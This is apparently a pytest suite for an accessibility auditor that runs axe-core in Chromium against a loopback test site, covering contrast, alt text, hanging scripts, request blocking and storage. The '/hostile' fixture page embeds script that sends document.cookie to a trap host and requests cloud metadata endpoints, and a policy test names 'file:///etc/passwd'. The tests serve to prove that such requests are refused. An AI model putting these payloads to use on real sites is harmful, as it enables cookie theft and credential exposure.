"""The real-browser accessibility engine (`--a11y-engine axe`), against a loopback site.

One real audit per module (one Chromium process): a contrast failure that only exists through
an external stylesheet, an image without alt, a page whose script never ends, and a hostile page
that asks for a metadata address and for another loopback host (a trap server that must never
see a request). Then `check` is re-run offline, with the site gone, and must give the same
findings. The unit tests below need no browser.

Chromium is Debian's (`make browser-deps` installs it as root); Playwright never downloads a
browser. Without Chromium or Playwright the browser tests skip and say why.
"""

from __future__ import annotations

import importlib.util
import json
import re
import shutil
import sqlite3
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from localoffer_audit import defaults
from localoffer_audit.axe_engine import (EngineUnavailable, RequestPolicy, axe_source,
                                         find_chromium, require_engine)
from localoffer_audit.checks import a11y_engine
from localoffer_audit.checks.a11y_engine import (AXE_RULE_CODES, A11yEngineResults,
                                                 severity_for)
from localoffer_audit.config import config_from_dict, load_config
from localoffer_audit.models import Finding, Page, Rule, Severity, Site
from localoffer_audit.registry import LoadedCheck, discover_checks
from localoffer_audit.runner import drop_engine_duplicates, known_rules, run_checks
from localoffer_audit.store import SCHEMA_VERSION, Store
from support import run_cli


def _browser_missing() -> str | None:
    if importlib.util.find_spec("playwright") is None:
        return "the playwright package is not installed (run `make browser-deps`)"
    if importlib.util.find_spec("axe_playwright_python") is None:
        return "axe-playwright-python (bundles axe-core) is not installed (run `make browser-deps`)"
    if find_chromium() is None:
        return ("Debian's Chromium is not installed (/usr/bin/chromium): run `make browser-deps` "
                "as root, or `apt-get install chromium`")
    return None


needs_browser = pytest.mark.skipif(_browser_missing() is not None,
                                   reason=_browser_missing() or "")

PAGES = {
    "/": "<h1>Short breaks</h1><p><a href='/contrast'>Contrast</a> <a href='/noalt'>Photo</a> "
         "<a href='/hang'>Hang</a> <a href='/hostile'>Hostile</a></p>",
    # The colour comes from the external stylesheet: static rules cannot compute it.
    "/contrast": "<h1>Contrast</h1><p class='faint'>Apply for a short break by Friday.</p>",
    "/noalt": "<h1>Photo</h1><p>Our centre:</p><img src='/centre.png' width='20' height='20'>",
    # A script that never ends: the engine's per-page timeout must turn it into a finding.
    "/hang": "<h1>Hang</h1><script>setTimeout(function () { for (;;) {} }, 10)</script>",
}


class EngineSite:
    """The audited site on 127.0.0.1 and a trap server on 127.0.0.2 (another host: off-site,
    private) that records any request that reaches it."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        self.trap_requests: list[str] = []
        site = self

        def handler(log, routes):
            class Handler(BaseHTTPRequestHandler):
                def log_message(self, *args):
                    pass

                def do_GET(self):
                    log.append(self.path)
                    status, ctype, body = routes(self.path)
                    self.send_response(status)
                    if status in (301, 302):
                        self.send_header("Location", {"/old-site.css": "/site.css"}.get(
                            self.path, f"{site.trap_url}/bounced.css"))
                    self.send_header("Content-Type", ctype)
                    self.send_header("Content-Length", str(len(body)))
                    self.end_headers()
                    self.wfile.write(body)
            return Handler

        self.trap = ThreadingHTTPServer(("127.0.0.2", 0), handler(
            self.trap_requests, lambda path: (200, "text/css", b"body{color:#fff}")))
        self.trap_url = f"http://127.0.0.2:{self.trap.server_address[1]}"
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), handler(self.requests, self.route))
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        self.threads = [threading.Thread(target=s.serve_forever, daemon=True)
                        for s in (self.server, self.trap)]
        for s in (self.server, self.trap):
            s.daemon_threads = True

    def route(self, path: str):
        if path == "/robots.txt":
            return 200, "text/plain", b"User-agent: *\nDisallow:\n"
        if path == "/old-site.css":  # a same-site redirect the browser must still follow
            return 301, "text/plain", b""
        if path == "/bounce.css":  # a same-site address that redirects to the trap
            return 302, "text/plain", b""
        if path == "/site.css":
            return 200, "text/css", b".faint { color: #b0b0b0; background: #ffffff; }"
        if path == "/centre.png":
            return 200, "image/png", b"\x89PNG\r\n\x1a\n"
        pages = dict(PAGES)
        pages["/hostile"] = (
            "<h1>Hostile</h1><p>Nothing to see.</p>"
            "<img alt='' src='http://169.254.169.254/latest/meta-data/'>"
            # Requests only a browser makes (the crawl does not run scripts):
            "<script>fetch('http://169.254.169.254/latest/api/token').catch(function () {});"
            f"fetch('{self.trap_url}/steal?c=' + document.cookie).catch(function () {{}});"
            f"var s = document.createElement('link'); s.rel = 'stylesheet';"
            f"s.href = '{self.trap_url}/steal.css'; document.head.appendChild(s);"
            "var b = document.createElement('link'); b.rel = 'stylesheet';"
            "b.href = '/bounce.css'; document.head.appendChild(b);</script>")
        if path in pages:
            title = path.strip("/") or "home"
            body = (f"<!doctype html><html lang='en'><head><title>{title} - Test Local Offer"
                    f"</title><link rel='stylesheet' href='/old-site.css'></head><body><main>"
                    f"{pages[path]}</main></body></html>")
            return 200, "text/html; charset=utf-8", body.encode()
        return 404, "text/html", b"<html><title>Not found</title><h1>Not found</h1></html>"

    def start(self) -> "EngineSite":
        for thread in self.threads:
            thread.start()
        return self

    def stop(self) -> None:
        for s in (self.server, self.trap):
            s.shutdown()
            s.server_close()


def _read(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text("utf-8").splitlines()]


def _comparable(findings):
    return sorted((f["fingerprint"], f["rule"], f["severity"], f["url"], f["message"])
                  for f in findings)


@pytest.fixture(scope="module")
def audited(tmp_path_factory):
    missing = _browser_missing()
    if missing:
        pytest.skip(missing)
    root = tmp_path_factory.mktemp("engine")
    site = EngineSite().start()
    config = root / "site.toml"
    config.write_text(f'[site]\nstart_urls = ["{site.url}"]\n[crawl]\ndelay = 0.0\n'
                      'a11y_engine_timeout = 4.0\na11y_engine_pages = 2\n', "utf-8")
    out = root / "out"
    try:
        result = run_cli("audit", str(config), "--out", str(out), "--a11y-engine", "axe",
                         "--no-progress", timeout=240)
    finally:
        site.stop()
    assert result.returncode == 0, result.stderr
    db = out / defaults.DB_FILENAME
    # The site is gone now: re-checking must reproduce the findings from the store alone.
    recheck = run_cli("check", "1", "--db", str(db), timeout=120)
    assert recheck.returncode == 0, recheck.stderr
    recheck_out = root / "recheck"
    report = run_cli("report", "1", "--db", str(db), "--out", str(recheck_out),
                     "--format", "jsonl", timeout=120)
    assert report.returncode == 0, report.stderr
    return {"site": site, "out": out, "db": db, "stderr": result.stderr,
            "findings": _read(out / "findings.jsonl"),
            "rechecked": _read(recheck_out / "findings.jsonl")}


def _on(audited, path: str) -> list[dict]:
    url = audited["site"].url.rstrip("/") + path
    return [f for f in audited["findings"] if f["url"] == url]


def _installed(code: str) -> bool:
    return any(r.code == code for r in known_rules(discover_checks()))


@needs_browser
def test_contrast_from_external_stylesheet_is_an_error(audited):
    found = [f for f in _on(audited, "/contrast") if f["extra"].get("axe_rule") == "color-contrast"]
    assert len(found) == 1, _on(audited, "/contrast")
    finding = found[0]
    assert finding["rule"] == ("A11Y520" if _installed("A11Y520") else "A11Y580")
    assert finding["severity"] == "error"  # axe: serious
    assert finding["extra"]["engine"] == "axe" and finding["extra"]["impact"] == "serious"
    assert re.search(r"contrast of [\d.]+", finding["message"]), finding["message"]
    assert "faint" in (finding["snippet"] or "")


@needs_browser
def test_image_without_alt_maps_to_a11y507_once(audited):
    on_page = [f for f in _on(audited, "/noalt")
               if f["rule"] == "A11Y507" or f["extra"].get("static_code") == "A11Y507"]
    assert len(on_page) == 1, on_page  # static and engine together: reported once
    finding = on_page[0]
    if _installed("A11Y507"):
        assert finding["rule"] == "A11Y507" and finding["severity"] in ("error", "warning")
    else:  # the static rule is not in this build: the engine's finding keeps the mapping
        assert finding["rule"] == "A11Y580" and finding["extra"]["axe_rule"] == "image-alt"
        assert finding["severity"] == "error"  # axe: critical


@needs_browser
def test_hanging_page_is_a_finding_not_a_failed_audit(audited):
    failed = [f for f in _on(audited, "/hang") if f["rule"] == "A11Y590"]
    assert len(failed) == 1
    assert failed[0]["severity"] == "warning" and failed[0]["extra"]["outcome"] == "timeout"
    assert "4 s" in failed[0]["message"]
    assert not [f for f in audited["findings"] if f["rule"] == "A11Y590" and "/hang" not in f["url"]]


@needs_browser
def test_hostile_requests_are_refused_and_never_sent(audited):
    blocked = [f for f in _on(audited, "/hostile") if f["rule"] == "A11Y591"]
    assert len(blocked) == 1
    refused = " ".join(blocked[0]["extra"]["blocked"])
    assert "169.254.169.254/latest/meta-data/" in refused
    assert "169.254.169.254/latest/api/token" in refused
    assert f"off-site host: {audited['site'].trap_url}/steal.css" in refused
    assert f"redirect to off-site host: {audited['site'].trap_url}/bounced.css" in refused
    assert audited["site"].trap_requests == []  # the route filter aborted it before sending


@needs_browser
def test_pages_come_from_the_store_and_styles_from_the_site(audited):
    requests = audited["site"].requests
    for path in PAGES:  # fetched once, by the crawl; the browser was served the stored body
        assert requests.count(path) == 1, (path, requests)
    assert "/site.css" in requests  # reached through the same-site redirect from /old-site.css


@needs_browser
def test_engine_version_and_speed_are_recorded(audited):
    with Store(audited["db"]) as store:
        stats = store.run(1)["stats"]["a11y_engine"]
        rows = list(store.iter_engine_results(1))
    assert stats["axe_version"] == axe_source()[1] and re.match(r"\d+\.\d+", stats["axe_version"])
    assert stats["pages"] == len(PAGES) + 1 == len(rows)
    assert stats["outcomes"] == {"ok": len(PAGES), "timeout": 1}
    assert all(r["engine_version"] == stats["axe_version"] for r in rows)


@needs_browser
def test_check_reruns_offline_with_the_same_findings(audited):
    assert _comparable(audited["rechecked"]) == _comparable(audited["findings"])
    assert any(f["extra"].get("engine") == "axe" for f in audited["rechecked"])


class StaticAltCheck:
    """Stands in for the static A11Y507 rule (another helper's), to test the merge."""

    name = "static-alt"
    rules = (Rule("A11Y507", "img-alt-missing", "Image has no alt", Severity.ERROR,
                  "accessibility", fix="Add alt."),)

    @classmethod
    def from_config(cls, options):
        return cls()

    def check_page(self, page: Page):
        if page.tree is not None:
            for _ in page.tree.xpath("//img[not(@alt)]"):
                yield page.finding(self.rules[0], "no alt", selector="img")


@needs_browser
def test_runner_drops_engine_findings_a_static_rule_already_reported(audited, tmp_path):
    db = tmp_path / "copy.sqlite"
    shutil.copy(audited["db"], db)
    engine = LoadedCheck("localoffer-audit[a11y-engine]", A11yEngineResults, "site")
    noalt = audited["site"].url + "noalt"
    with Store(db) as store:
        config = config_from_dict(store.run(1)["config"])
        run_checks(store, 1, config, checks=[engine])
        alone = [f for f in store.findings(1) if f.url == noalt]
        run_checks(store, 1, config,
                   checks=[engine, LoadedCheck("test[static-alt]", StaticAltCheck, "page")])
        merged = [f for f in store.findings(1) if f.url == noalt]
    assert [(f.rule, f.extra.get("static_code")) for f in alone] == [("A11Y580", "A11Y507")]
    assert [(f.rule, f.extra.get("engine")) for f in merged] == [("A11Y507", None)]


# ---- no browser needed ------------------------------------------------------------------------

def test_mapping_table_names_real_axe_rules_and_planned_static_codes():
    script, version = axe_source() if importlib.util.find_spec("axe_playwright_python") else ("", "")
    for axe_id, code in AXE_RULE_CODES.items():
        assert re.fullmatch(r"A11Y5[0-4]\d", code), (axe_id, code)  # static range A11Y501-549
        if script:
            assert f'id:"{axe_id}"' in script, f"{axe_id} is not an axe-core {version} rule"
    engine_codes = {r.code for r in A11yEngineResults.rules}
    assert engine_codes <= {f"A11Y{n}" for n in range(580, 600)}
    assert AXE_RULE_CODES["image-alt"] == "A11Y507"
    assert AXE_RULE_CODES["color-contrast"] == "A11Y520"


def test_impact_to_severity():
    assert severity_for("critical") is severity_for("serious") is Severity.ERROR
    assert severity_for("moderate") is Severity.WARNING
    assert severity_for("minor") is Severity.NOTICE
    assert severity_for(None) is Severity.WARNING


def _site(records, rules=None):
    return Site(1, ("http://a.test/",), lambda: iter(()), lambda url: None, lambda: iter(()),
                engine_loader=lambda: iter(records), rules=rules or {})


def _record(**results):
    return {"url": "http://a.test/p", "engine": "axe", "engine_version": "4.0.0", "outcome": "ok",
            "error": None, "blocked": [], "results": results}


def _axe_rule(axe_id, impact, nodes=1):
    return {"id": axe_id, "impact": impact, "help": f"help for {axe_id}", "helpUrl": "https://x",
            "tags": ["wcag2aa", "cat.color"], "nodes_total": nodes,
            "nodes": [{"target": [f"#n{i}"], "html": f"<p id=n{i}>", "impact": impact,
                       "failureSummary": "Fix any of the following:\n  reason one"}
                      for i in range(nodes)]}


def test_incomplete_results_stay_needs_review_notices():
    found = list(A11yEngineResults().check_site(_site([_record(
        violations=[], incomplete=[_axe_rule("color-contrast", "serious")])])))
    assert [(f.rule, f.severity, f.extra["needs_review"]) for f in found] == [
        ("A11Y581", Severity.NOTICE, True)]
    assert found[0].message.startswith("Needs review: ")


def test_mapped_code_is_used_when_the_static_rule_is_installed():
    rule = Rule("A11Y520", "contrast-insufficient", "Low contrast", Severity.ERROR, "accessibility",
                fix="Darken the text.")
    found = list(A11yEngineResults().check_site(_site(
        [_record(violations=[_axe_rule("color-contrast", "serious", nodes=3),
                             _axe_rule("region", "moderate")], incomplete=[])],
        rules={"A11Y520": rule})))
    assert [(f.rule, f.severity) for f in found] == [("A11Y520", Severity.ERROR)] * 3 + [
        ("A11Y580", Severity.WARNING)]
    assert found[0].fix == "Darken the text." and found[0].selector == "#n0"
    assert len({f.fingerprint for f in found}) == 4


def test_nodes_per_rule_are_capped(monkeypatch):
    monkeypatch.setattr(a11y_engine, "A11Y_ENGINE_MAX_NODES_PER_RULE", 2)
    found = list(A11yEngineResults().check_site(_site(
        [_record(violations=[_axe_rule("region", "minor", nodes=5)], incomplete=[])])))
    assert len(found) == 2 and found[0].extra["nodes_total"] == 5
    assert found[0].severity is Severity.NOTICE


def test_drop_engine_duplicates_is_keyed_by_code_and_page():
    def finding(rule, url, **extra):
        return Finding(rule, "r", "accessibility", Severity.ERROR, url, "m", selector="x",
                       extra=extra)
    static = finding("A11Y507", "http://a.test/1")
    kept = drop_engine_duplicates([
        static,
        finding("A11Y507", "http://a.test/1", engine="axe"),  # same code, same page: dropped
        finding("A11Y580", "http://a.test/1", engine="axe", static_code="A11Y507"),  # dropped
        finding("A11Y507", "http://a.test/2", engine="axe"),  # another page: kept
        finding("A11Y520", "http://a.test/1", engine="axe"),  # another code: kept
    ])
    assert [(f.rule, f.url) for f in kept] == [("A11Y507", "http://a.test/1"),
                                               ("A11Y507", "http://a.test/2"),
                                               ("A11Y520", "http://a.test/1")]


def test_a_static_finding_with_a_snippet_covers_only_the_same_element():
    def finding(snippet, **extra):
        return Finding("A11Y520", "contrast-insufficient", "accessibility", Severity.ERROR,
                       "http://a.test/1", "m", snippet=snippet, extra=extra)
    kept = drop_engine_duplicates([
        finding("Places are limited, so please book early."),
        finding('<p style="color:#c8c8c8">Places are limited,\n  so please book early.</p>',
                engine="axe"),  # the element the static rule found: dropped
        finding('<span class="hint">Pale hint from the theme</span>', engine="axe"),  # kept
    ])
    assert [f.snippet for f in kept] == ["Places are limited, so please book early.",
                                         '<span class="hint">Pale hint from the theme</span>']


async def _refusals(policy, urls):
    return [await policy.refusal(url) for url in urls]


def test_request_policy_on_a_loopback_site():
    import asyncio

    config = load_config(None, start_url="http://127.0.0.1:8123/")
    policy = RequestPolicy(config.allowed_hosts, config.allowed_networks,
                           resolver=lambda host: pytest.fail(f"resolved {host}"))
    verdicts = asyncio.run(_refusals(policy, [
        "http://127.0.0.1:8123/style.css", "http://127.0.0.1:9999/", "http://127.0.0.2:8123/",
        "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "ftp://127.0.0.1:8123/"]))
    assert verdicts[0] is None
    assert all(verdicts[1:]), verdicts
    assert verdicts[4] == "scheme file"
    assert "MAP * ~NOTFOUND" in policy.resolver_rules()


def test_request_policy_on_a_public_site_refuses_private_answers():
    import asyncio

    config = load_config(None, start_url="https://www.example.gov.uk/")
    answers = {"www.example.gov.uk": ["93.184.216.34"]}
    policy = RequestPolicy(config.allowed_hosts, config.allowed_networks, resolver=answers.get)
    assert asyncio.run(_refusals(policy, ["https://www.example.gov.uk/a.css"])) == [None]
    for address in ("127.0.0.1", "10.1.2.3", "169.254.169.254"):
        answers["www.example.gov.uk"] = [address]
        policy = RequestPolicy(config.allowed_hosts, config.allowed_networks, resolver=answers.get)
        assert asyncio.run(_refusals(policy, ["https://www.example.gov.uk/a.css"])) == [
            f"private address {address}"]
    assert policy.resolver_rules() == "MAP * ~NOTFOUND , EXCLUDE www.example.gov.uk"


def test_missing_chromium_or_playwright_fails_fast(monkeypatch):
    monkeypatch.delenv(defaults.ENV_CHROMIUM, raising=False)
    monkeypatch.setattr(defaults, "A11Y_ENGINE_BROWSER_PATHS", ("/nonexistent/chromium",))
    if importlib.util.find_spec("playwright") and importlib.util.find_spec("axe_playwright_python"):
        with pytest.raises(EngineUnavailable, match=r"needs Chromium.*make browser-deps"):
            require_engine("axe")
    monkeypatch.setitem(__import__("sys").modules, "playwright.async_api", None)
    with pytest.raises(EngineUnavailable, match=r"needs the playwright package.*make browser-deps"):
        require_engine("axe")
    assert require_engine("none") is None


def test_bad_engine_name_is_one_line_exit_2(tmp_path):
    result = run_cli("crawl", "http://127.0.0.1:9/", "--a11y-engine", "wave",
                     "--db", str(tmp_path / "s.sqlite"))
    assert result.returncode == 2
    assert result.stderr.strip() == ("localoffer-audit: error: --a11y-engine must be one of "
                                     "none, axe, got 'wave'")


def test_config_key_is_validated(write_toml):
    path = write_toml('[site]\nstart_urls = ["http://127.0.0.1:9/"]\n[crawl]\na11y_engine = "Axe"\n')
    with pytest.raises(Exception, match=r"\[crawl\]\.a11y_engine must be one of none, axe"):
        load_config(path)
    assert load_config(None, start_url="http://127.0.0.1:9/").crawl["a11y_engine"] == "none"


def test_schema_v2_store_migrates_to_v3_keeping_runs(tmp_path, monkeypatch):
    from localoffer_audit import store as store_module

    path = tmp_path / "v2.sqlite"
    monkeypatch.setattr(store_module, "SCHEMA_VERSION", 2)
    with Store(path) as store:
        run_id = store.begin_run("site", ["http://a.test/"], {}, "0.1.0")
        store.set_run_status(run_id, "crawled", stats={"pages": 1})
    monkeypatch.setattr(store_module, "SCHEMA_VERSION", SCHEMA_VERSION)
    assert sqlite3.connect(path).execute("SELECT version FROM schema_version").fetchone()[0] == 2
    with Store(path) as store:
        # to 3, and on to whatever is current (4 added pages.reused_from)
        assert store.db.execute("SELECT version FROM schema_version").fetchone()[0] == \
            SCHEMA_VERSION
        assert store.run(run_id)["status"] == "crawled"
        store.add_engine_result(run_id, "http://a.test/", "axe", "ok",
                                results={"violations": [], "incomplete": []},
                                blocked=["off-site host: http://b.test/x"], engine_version="4.1")
        store.update_run_stats(run_id, {"a11y_engine": {"pages": 1}})
        rows = list(store.iter_engine_results(run_id))
        assert store.run(run_id)["stats"] == {"pages": 1, "a11y_engine": {"pages": 1}}
    assert rows[0]["results"] == {"violations": [], "incomplete": []}
    assert rows[0]["blocked"] == ["off-site host: http://b.test/x"]
